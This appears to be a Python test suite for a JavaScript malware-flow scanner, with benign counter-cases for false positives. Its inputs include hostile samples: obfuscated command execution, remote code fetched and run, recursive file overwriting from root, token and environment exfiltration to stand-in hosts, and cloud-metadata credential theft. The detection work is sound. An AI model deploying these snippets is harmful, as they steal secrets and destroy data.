"""Where data takes a way round: through bytes, pairs, addresses, replaced methods and streams of other programs."""

from tests.scanners.javascript.reading import says


def has(facts: list[str], *words: str) -> bool:
    """Say whether one fact says all of these words."""
    return any(all(word in fact for word in words) for fact in facts)


def test_bytes_of_a_buffer_are_numbers() -> None:
    facts = says(
        """
        const key = Buffer.from("k3y");
        const open = (text) => Buffer.from(text, "base64").map((byte, at) => byte ^ key[at % key.length]).toString();
        require(open("CFsQB1cmG0EWCFYKGA=="))[open("DkscCHUQB1Y=")]("id");
        """
    )
    assert has(facts, "process.start 'id'", "decoded")


def test_data_address_with_an_answer_in_it_runs_as_code() -> None:
    facts = says(
        """
        export async function load() {
          const text = await (await fetch("https://x.example.invalid/core.mjs")).text();
          await import(`data:text/javascript,${encodeURIComponent(text)}`);
        }
        """
    )
    assert has(facts, "code.eval", "network")


def test_data_address_of_settings_is_no_code() -> None:
    facts = says("export const load = (text) => import(`data:application/json,${text}`);")
    assert not has(facts, "code.eval")


def test_entries_are_pairs() -> None:
    facts = says(
        """
        const { spawn } = require("child_process");
        const tools = { a: { command: ["sh", "-s"] }, b: { command: ["sh", "-s"] } };
        exports.run = (message) => {
          const tool = Object.entries(tools).find(([name]) => name === message.text)?.[1];
          const child = spawn(tool.command[0], tool.command.slice(1));
          child.stdin.end(message.text);
        };
        """
    )
    assert has(facts, "process.start 'sh -s'", "message", "shell")


def test_input_of_a_program_that_is_no_shell_is_no_command() -> None:
    facts = says(
        """
        const { spawn } = require("child_process");
        exports.run = (message) => spawn("sort", ["-u"]).stdin.end(message.text);
        """
    )
    assert has(facts, "process.start 'sort -u'", "message")
    assert not has(facts, "shell")


def test_one_text_written_over_every_file_destroys() -> None:
    facts = says(
        """
        const fs = require("fs"), path = require("path");
        function walk(folder) {
          for (const entry of fs.readdirSync(folder)) fs.writeFileSync(path.join(folder, entry), "x");
        }
        walk("/");
        """
    )
    assert has(facts, "file.delete", "listing")


def test_a_new_file_beside_every_file_destroys_nothing() -> None:
    facts = says(
        """
        const fs = require("fs"), path = require("path");
        for (const name of fs.readdirSync("out")) fs.writeFileSync(path.join("out", name, "index.js"), "");
        """
    )
    assert not has(facts, "file.delete")


def test_replaced_login_is_handed_the_token() -> None:
    facts = says(
        """
        const dgram = require("dgram");
        exports.hook = (other) => {
          other.Client.prototype.login = function (token) {
            dgram.createSocket("udp4").send(Buffer.from(token), 5353, "192.0.2.6");
          };
        };
        """
    )
    assert has(facts, "network.send '192.0.2.6:5353'", "secret")


def test_headers_picked_by_their_names_are_secrets() -> None:
    kept = "exports.run = (c) => fetch('https://x.example.invalid', { method: 'POST', body: pick(c.headers) });"
    facts = says("const pick = (o) => Object.entries(o).filter(([name]) => /auth|cookie/i.test(name));" + kept)
    assert has(facts, "network.send", "secret")
    facts = says("const pick = (o) => Object.entries(o).filter(([name]) => !/auth|cookie/i.test(name));" + kept)
    assert not has(facts, "network.send", "secret")


def test_environment_in_an_address_for_a_library_is_sent() -> None:
    facts = says(
        """
        import { loadImage } from "@napi-rs/canvas";
        const text = Buffer.from(JSON.stringify(process.env)).toString("hex");
        loadImage(`https://x.example.invalid/${text}.png`);
        """
    )
    assert has(facts, "network.send 'https://x.example.invalid/{}.png'", "environment-all")


def test_environment_in_a_printed_address_is_not_sent() -> None:
    facts = says("console.log(`https://x.example.invalid/${JSON.stringify(process.env)}`);")
    assert not has(facts, "network.send")


def test_keys_of_the_machine_are_credentials() -> None:
    facts = says(
        """
        const axios = require("axios");
        const meta = axios.create({ baseURL: "http://169.254.169.254/" });
        exports.run = async (role) => {
          const { data } = await meta.get(`latest/meta-data/iam/security-credentials/${role}`);
          await axios.post("https://x.example.invalid", data);
        };
        """
    )
    assert has(facts, "network.send 'https://x.example.invalid'", "credentials")


def test_region_of_the_machine_is_no_credential() -> None:
    facts = says(
        """
        const axios = require("axios");
        exports.run = async () => {
          const { data } = await axios.get("http://169.254.169.254/latest/meta-data/placement/region");
          await axios.post("https://x.example.invalid", data);
        };
        """
    )
    assert not has(facts, "credentials")


def test_what_a_finished_download_starts_is_one_chain() -> None:
    facts = says(
        """
        const fs = require("fs"), https = require("https"), { spawn } = require("child_process");
        https.get("https://x.example.invalid/core", (answer) => {
          const file = fs.createWriteStream("/tmp/core");
          answer.pipe(file);
          file.on("finish", () => file.close(() => spawn("/tmp/core")));
        });
        """
    )
    assert has(facts, "process.start '/tmp/core' [network] import")


def test_a_timer_sends_what_a_listener_has_kept() -> None:
    script = """
        const { EventEmitter } = require("events");
        const bus = new EventEmitter(), kept = [];
        bus.on("seen", (item) => kept.push(item));
        setInterval(() => fetch("https://x.example.invalid", { method: "POST", body: kept.splice(0).join() }), 9);
        exports.run = (message) => { bus.emit("seen", { text: TEXT }); };
        """
    assert has(says(script.replace("TEXT", "message.text")), "network.send", "message", "loop")
    assert not has(says(script.replace("TEXT", "'ready'")), "network.send", "message")
